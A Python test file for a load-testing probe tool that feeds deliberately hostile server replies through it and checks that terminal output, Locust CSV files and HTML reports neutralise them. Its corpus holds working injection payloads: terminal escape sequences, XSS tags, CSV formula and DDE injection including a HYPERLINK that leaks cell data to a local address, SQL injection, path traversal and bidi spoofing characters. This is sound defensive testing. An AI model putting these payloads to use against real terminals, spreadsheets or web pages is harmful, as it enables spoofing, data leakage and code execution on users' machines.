"""Replies that mean harm: whatever a server sends is stored as sent, and acts nowhere where it is shown."""

import csv
import json
import os
import pty
import re
import select
import shutil
import struct
import subprocess
import termios
from collections.abc import Iterator
from fcntl import ioctl
from pathlib import Path

import pyte
import pytest

from probe.journal import read_calls
from tests.commands import BIN, ROOT, environment, run
from tests.runs import only_run, results_in
from tests.test_analysis import invoked
from tests.test_escaping import ACTS
from tests.wire import WireServer, answers, reply, serving

# Every one of them as a header's value, an error's code and message, a model, a finish reason and a page's title.
CORPUS = [
    "\x1b[2J\x1b[H",
    "\x1b]0;owned\x07",
    "\x1b]8;;http://127.0.0.1:9/\x1b\\click\x1b]8;;\x1b\\",
    "\x1b]52;c;b3duZWQ=\x07",
    "\x1b[?1049h\x1b[?25l\x1b[?2004h",
    "\x1b(0\x0e",
    "\x1bc",
    "\x1b[6n\x1b[c",
    "\x1bP+q544e\x1b\\",
    "\x1b[8;1;1t",
    "\x9b31m\x9d0;owned\x9c",
    "\x90$q\x9c\x85\x84",
    "\x7f\x08\x08\x08ok",
    "200 ok\r",
    "a\tb",
    "[bold red]markup[/] [link=http://127.0.0.1:9/]x[/link] :bomb:",
    "</script><script>document.title='PWNED'</script>",
    "<img src=http://127.0.0.1:9/x onerror=document.title='PWNED'>",
    "<svg/onload=document.title='PWNED'>",
    "\"><iframe srcdoc='<script>parent.document.title=1</script>'></iframe>",
    "<style>@import 'http://127.0.0.1:9/x.css';</style>",
    "<meta http-equiv=refresh content='0;url=http://127.0.0.1:9/'>",
    "<base href=http://127.0.0.1:9/>",
    "javascript:alert(1)",
    "{{7*7}}{% raw %}${7*7}#{7*7}",
    "$\\frac{1}{0}$ $_^$",
    "_leading",
    "=cmd|'/c calc'!A1",
    "+1+cmd|'/c calc'!A1",
    "-2+3+cmd|'/c calc'!A1",
    "@SUM(1+1)*cmd|'/c calc'!A1",
    '=HYPERLINK("http://127.0.0.1:9/?"&A1,"x")',
    "%s%s%n %(x)s",
    "'; DROP TABLE calls; --",
    "../../../../etc/passwd",
    "x" * 3000,
]
# These cannot be in a header, which is bytes: they come in bodies.
WIDE = [
    "\u202egpj.exe\u202c",
    "\u2066\u2067\u2068\u2069",
    "\u200e\u200f\u061c",
    "\u2028\u2029",
    "\U000e0041\U000e007f",
    "\ufeff",
]


def one_line(text: str) -> str:
    return text.replace("\r", " ").replace("\n", " ")


def hostile(number: int, status: str) -> bytes:
    text = (CORPUS + WIDE)[number % len(CORPUS + WIDE)]
    body = {
        "id": text,
        "model": text,
        "choices": [{"finish_reason": text, "message": {"content": text}}],
        "usage": {"prompt_tokens": 1, "completion_tokens": 1},
    }
    if status != "200 OK":
        body = {"error": {"code": text, "message": f"m {text}", "type": text}}
    content = json.dumps(body).encode()
    if number % 7 == 3:
        content = f"<html><title>{text}</title>".encode()
    names = [f"x-ms-region: {one_line(text)}", f"x-request-id: {one_line(text)}", f"retry-after: {one_line(text)}"]
    sent = [header.encode("latin-1", "ignore").decode("latin-1") for header in names]
    return reply(content, status, *sent)


class Replies:
    """Good to the first, which is the check of the target; then the corpus, answered and refused in turn."""

    def __init__(self) -> None:
        self.number = -2

    def __call__(self, request: bytes) -> bytes:
        self.number += 1
        if self.number < 0:
            return reply(b'{"choices":[{"finish_reason":"stop","message":{"content":"x"}}]}')
        statuses = ("200 OK", "429 Too Many Requests", "400 Bad Request", "503 Service Unavailable")
        return hostile(self.number // 2, statuses[self.number % len(statuses)])


def test_one_after_the_other_they_act_on_no_terminal(tmp_path: Path) -> None:
    for width in (80, 200):
        for number in range(0, len(CORPUS + WIDE), 6 if width == 80 else 12):
            with serving(answers(lambda _, n=number: hostile(n, "400 Bad Request"))) as server:  # type: ignore[misc]
                raw = on_a_terminal(server, width)
            screen = pyte.HistoryScreen(width, 400)
            fresh = pyte.HistoryScreen(width, 400)
            pyte.ByteStream(screen).feed(raw)
            assert screen.title == "" and screen.icon_name == ""
            assert (
                screen.mode == fresh.mode and screen.g0_charset == fresh.g0_charset and screen.charset == fresh.charset
            )
            plain = re.sub(r"\x1b\[[0-9;]*m", "", raw.decode("utf-8"))
            assert not re.search(ACTS.pattern, plain.replace("\n", "").replace("\r", "")), plain


def on_a_terminal(server: WireServer, width: int) -> bytes:
    """What `probe` wrote to a terminal of this width, standard error included."""
    controller, terminal = pty.openpty()
    ioctl(terminal, termios.TIOCSWINSZ, struct.pack("HHHH", 400, width, 0, 0))
    settings = environment(results_in(ROOT, server.url)) | {"TERM": "xterm-256color", "COLUMNS": str(width)}
    process = subprocess.Popen([str(BIN / "probe")], env=settings, stdin=terminal, stdout=terminal, stderr=terminal)
    os.close(terminal)
    written = b""
    while True:
        if not select.select([controller], [], [], 30)[0]:
            process.kill()
            break
        try:
            some = os.read(controller, 65536)
        except OSError:
            break
        if not some:
            break
        written += some
    process.wait()
    os.close(controller)
    return written


def test_json_on_a_terminal_is_escaped_and_the_same(tmp_path: Path) -> None:
    with serving(answers(lambda _: hostile(len(CORPUS), "400 Bad Request"))) as server:
        done = run("probe", "-o", "json", settings=results_in(tmp_path, server.url))
    assert not ACTS.search(done.stdout.replace("\n", ""))
    assert WIDE[0] in done.stdout.encode().decode("unicode_escape") or WIDE[0] in json.loads(
        done.stdout.splitlines()[0]
    ).get("error.message", "")


@pytest.fixture(scope="module")
def a_run(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Path, "subprocess.CompletedProcess[str]"]]:
    """Of a target named to do harm too, with Locust's own CSV files and page."""
    folder = tmp_path_factory.mktemp("hostile")
    with serving(answers(Replies())) as server:
        (folder / "targets.toml").write_text(
            f'["=cmd|calc \\u001b]0;x\\u0007</script><script>document.title=1</script>"]\nendpoint = "{server.url}"\n'
            'deployment = "chat"\napi_version = "2024-10-21"\napi_key_env = "KEY"\n'
        )
        settings = {
            "HEADROOM_TARGETS_FILE": str(folder / "targets.toml"),
            "KEY": "made-up-key",
            "HEADROOM_RESULTS": str(folder / "results"),
            # Locust writes its files each second.
            "HEADROOM_RATE": "60",
            "HEADROOM_STREAM_SHARE": "0",
            "HEADROOM_MAX_REQUESTS": "200",
        }
        options = ("--csv", str(folder / "locust"), "--html", str(folder / "locust.html"), "--users", "4")
        done = run("locust", "--headless", *options, settings=settings)
    yield folder, done


Ran = tuple[Path, "subprocess.CompletedProcess[str]"]


def test_a_run_against_them_prints_nothing_that_acts_and_keeps_what_was_sent(a_run: Ran) -> None:
    folder, done = a_run
    assert done.returncode == 0 and "Traceback" not in done.stderr, done.stderr
    assert not ACTS.search((done.stdout + done.stderr).replace("\n", ""))
    calls = read_calls(only_run(folder / "results"))
    assert calls.skipped == 0 and len(calls.calls) >= 200
    stored = "".join(value for call in calls.calls for _, value in call.headers)
    assert "\x1b]0;owned\x07" in stored and "</script>" in stored and "\x9b31m" in stored
    assert any(WIDE[0] in (call.error_message or "") for call in calls.calls)


def test_no_cell_of_locusts_csv_files_is_a_formula(a_run: Ran) -> None:
    folder, _ = a_run
    cells = [cell for path in folder.glob("locust_*.csv") for row in csv.reader(path.open()) for cell in row]
    assert any("cmd|calc" in cell for cell in cells)
    assert not [cell for cell in cells if cell.startswith(tuple("=+-@\t\r")) and not re.fullmatch(r"[+-]?[\d.]+", cell)]


@pytest.mark.skipif(shutil.which("chromium") is None, reason="needs chromium")
@pytest.mark.parametrize("page", ["report", "locust"])
def test_nothing_in_a_page_runs_and_nothing_is_fetched(a_run: Ran, page: str, tmp_path: Path) -> None:
    folder, _ = a_run
    path = folder / "locust.html"
    if page == "report":
        done = invoked(str(only_run(folder / "results")))
        assert done.exit_code == 0, done.stderr
        assert not ACTS.search(done.stdout.replace("\n", ""))
        path = only_run(folder / "results") / "report.html"
        assert not re.search(r"<[^>]*\s(?:src|href)=(?![\"']?#)", path.read_text())
    log = tmp_path / "net.json"
    chromium = ["chromium", "--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking"]
    seen = subprocess.run(
        [*chromium, f"--user-data-dir={tmp_path / 'profile'}", f"--log-net-log={log}", "--enable-logging=stderr",
         "--virtual-time-budget=2000", "--timeout=20000", "--dump-dom", path.as_uri()],
        capture_output=True, text=True, timeout=90, check=False,
    )  # fmt: skip
    assert "<title>" in seen.stdout, seen.stderr
    title = re.search(r"<title>(.*?)</title>", seen.stdout, re.S)
    assert title is not None and "PWNED" not in title[1] and title[1] != "1"
    if page == "report":
        assert title[1].startswith("Headroom: ")
        assert "Refused to" not in seen.stderr and "Content Security Policy" not in seen.stderr
    assert "127.0.0.1:9" not in log.read_text()
